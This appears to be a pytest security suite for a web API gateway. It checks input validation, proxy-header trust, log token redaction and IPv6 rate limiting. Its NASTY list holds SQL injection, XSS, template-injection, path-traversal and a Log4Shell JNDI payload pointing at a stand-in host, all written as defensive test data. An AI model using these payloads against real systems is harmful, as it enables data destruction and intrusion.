"""Hostile input in every text field: stored verbatim or refused with a 422, never run as
SQL, never rendered as markup, never a 500."""

from __future__ import annotations

import logging
import re
import time
from urllib.parse import quote

import pytest
from tornado.httputil import HTTPHeaders

from gateway.clients import ProxyTrust
from tests.gateway.conftest import Gateway, token_in
from tests.gateway.test_journey import PROGRAM

NASTY = [
    "'; DROP TABLE users; --",
    "\" OR 1=1 --",
    "<script>alert('x')</script>",
    "{{7*7}} ${7*7} {% raw %}",
    "${jndi:ldap://evil.test/a}",
    "../../../../etc/passwd",
    "Robert'); DELETE FROM tenants;--",
]


def test_hostile_names_are_stored_verbatim_and_escaped_in_mail(configured) -> None:
    gateway = configured(trusted_proxies=("127.0.0.1/32",))  # the test is the proxy
    for n, text in enumerate(NASTY):
        address = f"n{n}@hostile.test"
        answer = gateway.post("/api/v1/auth/register", {
            "email": address, "password": "correct horse battery", "display_name": text},
            headers={"X-Forwarded-For": f"10.1.0.{n}"})  # past the per-address limit
        assert answer.status_code == 201, (text, answer.text)
        assert answer.json()["display_name"] == text
        message = gateway.sink.wait_for(address)[0]
        html = message.get_body(("html",)).get_content()
        assert "<script>" not in html
        if "<" in text:
            assert "&lt;script&gt;" in html
        # Shown as written, not evaluated ({{7*7}} stays {{7*7}}).
        assert f"Hello {text}," in message.get_body(("plain",)).get_content()
        token_in(message)
    assert gateway.sql("SELECT count(*) FROM users")[0][0] == len(NASTY)
    assert gateway.sql("SELECT count(*) FROM tenants")[0][0] == 1


def test_hostile_text_in_constrained_fields_is_refused(gateway: Gateway) -> None:
    gateway.verified_user("admin@hostile.test")
    gateway.promote("admin@hostile.test", "admin")
    admin = gateway.login("admin@hostile.test")["access_token"]
    for text in NASTY:
        for field in ("email",):
            answer = gateway.post("/api/v1/auth/login", {field: text, "password": "x" * 10})
            assert answer.status_code == 422, (field, text)
        for field in ("slug", "currency", "price"):
            answer = gateway.post("/api/v1/admin/programs", {**PROGRAM, field: text}, admin)
            assert answer.status_code == 422, (field, text, answer.text)
            assert answer.json()["error"]["fields"][0]["path"] == f"$.{field}"
        # The program's name is free text: stored as given, shown back as data.
        named = gateway.post("/api/v1/admin/programs",
                             {**PROGRAM, "slug": f"p{abs(hash(text)) % 10**6}",
                              "name": text[:100]}, admin)
        assert named.status_code == 201, named.text
        assert named.json()["name"] == text[:100]
        # Path parameters and queries.
        assert gateway.get(f"/api/v1/challenges/{text}", admin).status_code == 404
        assert gateway.get("/api/v1/admin/users", admin,
                           params={"q": text}).status_code == 200
        # A filter value that matches nothing is named, never an empty success.
        state = gateway.get("/api/v1/risk/events", admin, params={"state": text})
        assert state.status_code == 422 and state.json()["error"]["fields"][0]["path"] == \
            "state"
        assert gateway.get("/api/v1/risk/events", admin,
                           params={"account": text}).status_code == 404
    nul = gateway.post("/api/v1/auth/register", {"email": "z@z.test",
                                                 "password": "correct horse battery",
                                                 "display_name": "a\u0000b"})
    assert nul.status_code == 422
    assert gateway.sql("SELECT count(*) FROM programs")[0][0] == len(NASTY)


def logged(caplog, text: str) -> bool:
    """Whether the access log names ``text`` (a request is logged just after its answer)."""
    deadline = time.monotonic() + 5
    while text not in caplog.text and time.monotonic() < deadline:
        time.sleep(0.05)
    return text in caplog.text


def test_forwarded_headers_from_anyone_are_not_believed(gateway: Gateway, caplog) -> None:
    caplog.set_level(logging.INFO, logger="tornado.access")
    codes = [gateway.post("/api/v1/auth/register",
                          {"email": f"x{n}@spoof.test", "password": "correct horse battery"},
                          headers={"X-Forwarded-For": f"10.7.0.{n}",
                                   "X-Real-IP": f"10.6.0.{n}"}).status_code
             for n in range(8)]
    assert codes == [201] * 5 + [429] * 3
    assert "10.7.0." not in caplog.text and "10.6.0." not in caplog.text
    assert logged(caplog, "127.0.0.1")  # the logs name the real peer


def test_a_trusted_proxy_names_the_client(configured, caplog) -> None:
    caplog.set_level(logging.INFO, logger="tornado.access")
    gateway = configured(trusted_proxies=("127.0.0.1/32", "10.0.0.0/8"))

    def register(n: int, headers: dict) -> int:
        return gateway.post("/api/v1/auth/register", {
            "email": f"p{n}@proxy.test", "password": "correct horse battery"},
            headers=headers).status_code

    # The client's own X-Forwarded-For entries come first; the address the proxy saw is
    # the last one that is not a trusted proxy: choosing the first ones changes nothing.
    codes = [register(n, {"X-Forwarded-For": f"192.0.2.{n}, 203.0.113.5"})
             for n in range(6)]
    assert codes == [201] * 5 + [429]
    # Behind two proxies of ours; and X-Real-IP when there is no X-Forwarded-For.
    assert register(10, {"X-Forwarded-For": "192.0.2.1, 203.0.113.6, 10.0.0.2"}) == 201
    assert register(11, {"X-Real-IP": "203.0.113.7"}) == 201
    assert logged(caplog, "203.0.113.6") and logged(caplog, "203.0.113.7")
    assert "192.0.2." not in caplog.text


def test_client_addresses_follow_only_trusted_hops() -> None:
    trust = ProxyTrust(("127.0.0.1/32", "10.0.0.0/8", "::1/128"))
    cases = [
        ("198.51.100.1", {"X-Forwarded-For": "1.2.3.4"}, "198.51.100.1"),
        ("127.0.0.1", {"X-Forwarded-For": "1.2.3.4"}, "1.2.3.4"),
        ("127.0.0.1", {"X-Forwarded-For": "9.9.9.9, 1.2.3.4, 10.1.1.1"}, "1.2.3.4"),
        ("127.0.0.1", {"X-Forwarded-For": "10.1.1.2, 10.1.1.1"}, "10.1.1.2"),
        ("127.0.0.1", {"X-Forwarded-For": "not-an-address, 10.1.1.1"}, "10.1.1.1"),
        ("127.0.0.1", {"X-Forwarded-For": "garbage"}, "127.0.0.1"),
        ("127.0.0.1", {"X-Real-IP": "2001:db8::1"}, "2001:db8::1"),
        ("127.0.0.1", {"X-Real-IP": "2001:db8::1", "X-Forwarded-For": "1.2.3.4"}, "1.2.3.4"),
        ("::1", {"X-Forwarded-For": "[2001:db8::2]:4711"}, "2001:db8::2"),
        ("127.0.0.1", {}, "127.0.0.1"),
    ]
    for peer, headers, expected in cases:
        assert trust.client(peer, HTTPHeaders(headers))[0] == expected, (peer, headers)
    assert trust.client("127.0.0.1", HTTPHeaders({"X-Forwarded-Proto": "https"}))[1] == "https"
    assert trust.client("127.0.0.1", HTTPHeaders({"X-Forwarded-Proto": "gopher"}))[1] is None
    assert trust.client("198.51.100.1", HTTPHeaders({"X-Forwarded-Proto": "https"}))[1] is None
    assert ProxyTrust(()).client("127.0.0.1", HTTPHeaders({"X-Forwarded-For": "1.2.3.4"})) \
        == ("127.0.0.1", None)


# Numbers no column holds, digits that are not ASCII, and texts that are not numbers.
OUT_OF_RANGE = ["9223372036854775808", "99999999999999999999999", "-1", "0", "1e30",
                "-9223372036854775809", "1.5", "0x10", "\u0661\u0660\u0660", "\uff11",
                "\u00b9", "NaN", "Infinity", "9" * 5000]


def test_out_of_range_numbers_and_bad_encodings_everywhere(gateway: Gateway) -> None:
    gateway.verified_user("root@hostile.test")
    gateway.promote("root@hostile.test", "owner")
    owner = gateway.login("root@hostile.test")["access_token"]
    spec = gateway.get("/api/openapi.json").json()
    failures = []

    def check(method: str, path: str, answer) -> None:
        shaped = answer.status_code < 400 or set(answer.json()) == {"error"}
        if answer.status_code >= 500 or not shaped:
            failures.append(f"{method} {path}: {answer.status_code} {answer.text[:200]}")

    for template, item in spec["paths"].items():
        for method, op in item.items():
            if template in ("/api/v1/auth/logout", "/api/v1/me/sessions/revoke"):
                continue  # they end the session the walk uses (and read no input)
            names = re.findall(r"{(\w+)}", template)
            values = OUT_OF_RANGE if names else ["-"]
            for value in values:
                path = template
                for name in names:
                    path = path.replace("{" + name + "}", quote(value, safe=""))
                answer = gateway.request(method.upper(), path, owner)
                check(method, path, answer)
                if names:
                    assert answer.status_code in (400, 404, 405, 422), (path, answer.text)
            concrete = re.sub(r"{\w+}", "1", template)
            for parameter in op.get("parameters", []):
                if parameter["in"] != "query":
                    continue
                for value in OUT_OF_RANGE:
                    answer = gateway.request(method.upper(), concrete, owner,
                                             params={parameter["name"]: value})
                    check(method, f"{concrete}?{parameter['name']}={value}", answer)
            if "requestBody" in op:
                for body in (b'{"a": "\xff\xfe"}', b'"\xc3\x28"', b'{"\xed\xa0\x80": 1}'):
                    answer = gateway.request(method.upper(), concrete, owner, data=body,
                                             headers={"Content-Type": "application/json"})
                    check(method, f"{concrete} (not UTF-8)", answer)
                if "application/json" not in op["requestBody"]["content"]:
                    continue  # a raw upload (an image's bytes): sent above, no fields
                ref = op["requestBody"]["content"]["application/json"]["schema"]["$ref"]
                schema = spec["components"]["schemas"][ref.rpartition("/")[2]]
                for field in schema.get("properties", {}):
                    for number in (2**63, 10**23, -(2**63) - 1, 1e308, -1):
                        answer = gateway.request(method.upper(), concrete, owner,
                                                 json={field: number})
                        check(method, f"{concrete} {{{field}: {number}}}", answer)
    assert not failures, "\n".join(failures)


def test_out_of_range_numbers_in_a_program(gateway: Gateway) -> None:
    gateway.verified_user("admin@hostile.test")
    gateway.promote("admin@hostile.test", "admin")
    admin = gateway.login("admin@hostile.test")["access_token"]
    for number in ("9" * 13, "99999999999999999999.99", "1" + "0" * 30, "-1", "1e3"):
        for field in ("price", "account_size"):
            answer = gateway.post("/api/v1/admin/programs", {**PROGRAM, field: number}, admin)
            assert answer.status_code == 422, (field, number, answer.text)
            assert answer.json()["error"]["fields"][0]["path"] == f"$.{field}"
    for number in (2**63, 10**23, -(2**63) - 1):
        addon = gateway.post("/api/v1/admin/programs", {**PROGRAM, "addons": [
            {"name": "x", "price": number}]}, admin)
        assert addon.status_code == 422, addon.text
        assert addon.json()["error"]["fields"][0]["path"] == "$.addons[0].price"
        program = gateway.request("PUT", f"/api/v1/admin/programs/{number}", admin,
                                  json=PROGRAM)
        assert program.status_code == 404, program.text
    assert gateway.sql("SELECT count(*) FROM programs")[0][0] == 0


def test_out_of_range_numbers_in_program_documents(gateway: Gateway) -> None:
    gateway.verified_user("doc@hostile.test")
    gateway.promote("doc@hostile.test", "admin")
    admin = gateway.login("doc@hostile.test")["access_token"]
    cases = [(rule, field, number) for rule, field in (
        ("max_loss", "limit"), ("daily_loss", "limit"), ("profit_target", "target"),
        ("min_trading_days", "days"), ("max_exposure", "lots")) for number in (10**23, -10**23)]
    failures = []
    for n, (rule, field, number) in enumerate(cases):
        answer = gateway.post("/api/v1/admin/programs", {
            **PROGRAM, "slug": f"p{n}",
            "phases": [{"name": "P", "document": {"rules": {rule: {field: number}}}}]}, admin)
        path = answer.json()["error"]["fields"][0]["path"] if answer.status_code == 422 else ""
        if not path.startswith(f"$.phases[0].document.rules.{rule}"):
            failures.append(f"{rule}.{field}={number}: {answer.status_code} {answer.text[:120]}")
    assert not failures, "\n".join(failures)
    assert gateway.sql("SELECT count(*) FROM programs")[0][0] == 0


def test_a_trailing_newline_breaks_every_pattern(gateway: Gateway) -> None:
    # Python's "$" also matches before a final "\n" (msgspec validates with Python's re):
    # "100\n" would pass "^[0-9]+$" and be stored with its newline.
    import msgspec

    from gateway import schemas

    cases = [(schemas.Money, "100"), (schemas.Slug, "acme"), (schemas.Domain, "acme.example"),
             (schemas.Email, "ann@acme.example"), (schemas.Name, "Ann"),
             (schemas.CurrencyCode, "USD"), (schemas.Color, "#123456"),
             (schemas.Url, "https://acme.example/logo.png"),
             (schemas.Origin, "https://app.acme.example")]
    for kind, good in cases:
        assert msgspec.convert(good, kind) == good
        for bad in (good + "\n", good + "\r\n", "\n" + good):
            with pytest.raises(msgspec.ValidationError):
                msgspec.convert(bad, kind)
    # Through the API: refused with the field's path, nothing stored.
    gateway.verified_user("nl@hostile.test")
    gateway.promote("nl@hostile.test", "owner")
    owner = gateway.login("nl@hostile.test")["access_token"]
    for field, value in (("price", "100\n"), ("slug", "gold\n"), ("currency", "USD\n")):
        answer = gateway.post("/api/v1/admin/programs", {**PROGRAM, field: value}, owner)
        assert answer.status_code == 422, (field, answer.text)
        assert answer.json()["error"]["fields"][0]["path"] == f"$.{field}"
    for change, path in (({"slug": "acme\n"}, "$.slug"),
                         ({"domains": ["acme.example\n"]}, "$.domains[0]")):
        firm = {"slug": "acme", "branding": {"name": "Acme"}, **change}
        answer = gateway.post("/api/v1/owner/tenants", firm, owner)
        assert answer.status_code == 422, (change, answer.text)
        assert answer.json()["error"]["fields"][0]["path"] == path
    answer = gateway.post("/api/v1/auth/register", {"email": "x@acme.example\n",
                                                    "password": "correct horse battery"})
    assert answer.status_code == 422 and answer.json()["error"]["fields"][0]["path"] == \
        "$.email"
    assert gateway.sql("SELECT count(*) FROM programs")[0][0] == 0
    assert gateway.sql("SELECT count(*) FROM tenants")[0][0] == 1


def test_the_access_log_keeps_tokens_out(configured, caplog) -> None:
    # /ws?token=<access token> is how browsers authenticate a websocket: the URL must not
    # carry a working token into the logs.

    import tornado.websocket

    caplog.set_level(logging.INFO, logger="tornado.access")
    caplog.set_level(logging.INFO, logger="tornado.general")
    gateway = configured(trusted_proxies=("127.0.0.1/32",))
    access = gateway.verified_user("log@hostile.test")["access_token"]

    async def websocket(url: str) -> None:
        connection = await tornado.websocket.websocket_connect(url)
        assert await connection.read_message() is not None  # authenticated, or an error
        connection.close()

    gateway.call(websocket(f"ws://127.0.0.1:{gateway.port}/ws?token={access}"))
    gateway.call(websocket(f"ws://127.0.0.1:{gateway.port}/ws?x=1&tok%65n={access}"))
    headers = {"X-Forwarded-For": "203.0.113.44"}
    gateway.get(f"/api/v1/me?token={access}&access_token={access}&q=kept", access,
                headers=headers)
    # A host no firm claimed: refused before the upgrade, and logged as a warning too.
    assert gateway.request("GET", f"/ws?token={access}",
                           headers={"Host": "nobody.test"}).status_code == 404
    assert logged(caplog, "q=kept")
    assert logged(caplog, "/ws?x=1&tok%65n=[redacted]")
    assert "/ws?token=[redacted] (127.0.0.1)" in caplog.text
    assert "token=[redacted]&access_token=[redacted]&q=kept (203.0.113.44)" in caplog.text
    assert access not in caplog.text
    assert access.split(".")[2] not in caplog.text  # not even the signature


def test_ipv6_addresses_count_by_their_64_block() -> None:
    from gateway.clients import limit_subject

    assert limit_subject("2001:db8:1:2:aaaa:bbbb:cccc:dddd") == "2001:db8:1:2::/64"
    assert limit_subject("2001:db8:1:2::1") == limit_subject("2001:db8:1:2:ffff::9")
    assert limit_subject("2001:db8:1:3::1") != limit_subject("2001:db8:1:2::1")
    assert limit_subject("203.0.113.9") == "203.0.113.9"
    assert limit_subject("::ffff:203.0.113.9") == "203.0.113.9"
    assert limit_subject("::1") == "::/64"
    assert limit_subject("unknown") == "unknown"


def test_rotating_ipv6_addresses_within_a_64_share_the_limits(configured) -> None:
    # A home or a cloud host is given a whole /64: 2**64 addresses to rotate through.
    gateway = configured(trusted_proxies=("127.0.0.1/32",))

    def register(n: int, client: str) -> int:
        return gateway.post("/api/v1/auth/register", {
            "email": f"v6-{n}@rotate.test", "password": "correct horse battery"},
            headers={"X-Forwarded-For": client}).status_code

    codes = [register(n, f"2001:db8:77:1::{n + 1:x}") for n in range(6)]
    assert codes == [201] * 5 + [429]
    assert register(6, "2001:db8:77:2::1") == 201  # the next /64 is someone else
    logins = [gateway.post("/api/v1/auth/login", {"email": "v6-0@rotate.test",
                                                  "password": "wrong password!"},
                           headers={"X-Forwarded-For": f"2001:db8:99:1:{n:x}::1"}
                           ).status_code for n in range(12)]
    assert logins == [401] * 10 + [429] * 2
